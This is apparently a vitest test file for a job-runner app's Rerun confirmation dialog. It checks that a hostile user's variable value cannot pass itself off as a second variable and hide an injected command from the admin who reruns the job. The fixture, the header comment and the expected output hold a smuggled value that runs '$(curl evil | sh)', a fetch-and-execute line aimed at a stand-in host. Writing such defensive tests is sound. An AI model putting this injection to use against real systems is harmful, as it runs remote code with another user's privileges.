// Attack (atk23, hostile user → admin): the Rerun question shows another user's code and its
// variables, one `name = value` line each, so the admin can judge what runs as them. A rerun runs the
// task's code with the values substituted at submit, but a value is drawn with its line breaks kept:
// mallory's `a` = 'hi"\ncleanup = "$(curl evil | sh)' is drawn as two variables, a = hi" and an unused
// "cleanup", while `echo "${a}"` runs `echo "hi"` and then the command substitution. Expected: one
// line per variable in the question (a line break inside a value shown as an escape), so no value
// can pass for another variable. And the question shows the code as it runs (jobs.code: substituted),
// where the value's second line is where it really is: inside the code.
import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import type { JobDetail } from '../../shared/model'
import { RerunConfirm, RerunQuestion } from '../../renderer/src/features/jobs/RerunConfirm'

const detail = {
  id: 7, uuid: 'u7', kind: 'script', name: 'greet', status: 'succeeded', progress: 1, error: null, submitter: 'mallory',
  createdAt: 1, startedAt: 1, finishedAt: 2, taskCount: 1, labels: {}, tasks: [],
  input: { language: 'shell', code: 'echo "${a}"', variables: { a: 'hi"\ncleanup = "$(curl evil | sh)' } },
} as unknown as JobDetail
/**
 * Markup as a reader sees it drawn: a hidden character's chip as its label (CSS generated content from
 * data-label), the character it keeps for copying (visually hidden) dropped, tags dropped.
 */
const drawn = (html: string) =>
  html
    .replace(/<span class="hidden-char-original">[\s\S]*?<\/span>/g, '')
    .replace(/<span class="hidden-char" data-label="([^"]*)"[^>]*>/g, '$1')
    .replace(/<[^>]+>/g, '')
/** The drawn text of the element with `testId`. */
const textOf = (html: string, testId: string) => drawn(new RegExp(`data-testid="${testId}"[^>]*>([\\s\\S]*?)</(?:pre|p)>`).exec(html)?.[1] ?? '')

describe('the Rerun question’s variables', () => {
  it('draws one line per variable, whatever the values hold', () => {
    const html = renderToStaticMarkup(createElement(RerunConfirm, { detail, me: 'admin', onConfirm: () => {}, onClose: () => {} }))
    const block = /data-testid="rerun-variables"[^>]*>([\s\S]*?)<\/pre>/.exec(html)?.[1] ?? ''
    const text = drawn(block)
    expect(text).toContain('a = hi')
    expect(text.split('\n'), 'the variables as the admin reads them').toHaveLength(1) // today: 2 lines, the second "cleanup = …"
  })

  it('shows the code as the rerun runs it, the value substituted, once read', () => {
    const asRun = { state: 'read' as const, code: 'echo "hi"\ncleanup = "$(curl evil | sh)"' }
    const html = renderToStaticMarkup(createElement(RerunQuestion, { detail, me: 'admin', asRun, onConfirm: () => {}, onClose: () => {} }))
    expect(textOf(html, 'rerun-code-caption')).toMatch(/^The code as it runs, its variables filled in/)
    expect(textOf(html, 'rerun-code').split('\n'), 'the substituted code, its two lines as they run').toEqual(['echo &quot;hi&quot;', 'cleanup = &quot;$(curl evil | sh)&quot;'])
    expect(textOf(html, 'rerun-hidden-warning')).toContain('A variable’s value holds line breaks')
    const failed = renderToStaticMarkup(createElement(RerunQuestion, { detail, me: 'admin', asRun: { state: 'error', error: 'job 7 not found' }, onConfirm: () => {}, onClose: () => {} }))
    expect(textOf(failed, 'rerun-code-caption'), 'unread, it says the code shown is as written').toContain('could not be read (job 7 not found)')
    expect(textOf(failed, 'rerun-code')).toBe('echo &quot;${a}&quot;')
    expect(failed, 'unreadable, the rerun can still be confirmed').toMatch(/<button type="button" class="primary" data-autofocus="true">Rerun as admin/)
    const loading = renderToStaticMarkup(createElement(RerunQuestion, { detail, me: 'admin', asRun: { state: 'loading' }, onConfirm: () => {}, onClose: () => {} }))
    expect(loading, 'not before the code that runs is shown').toMatch(/<button type="button" class="primary" disabled="">Rerun as admin/)
  })
})
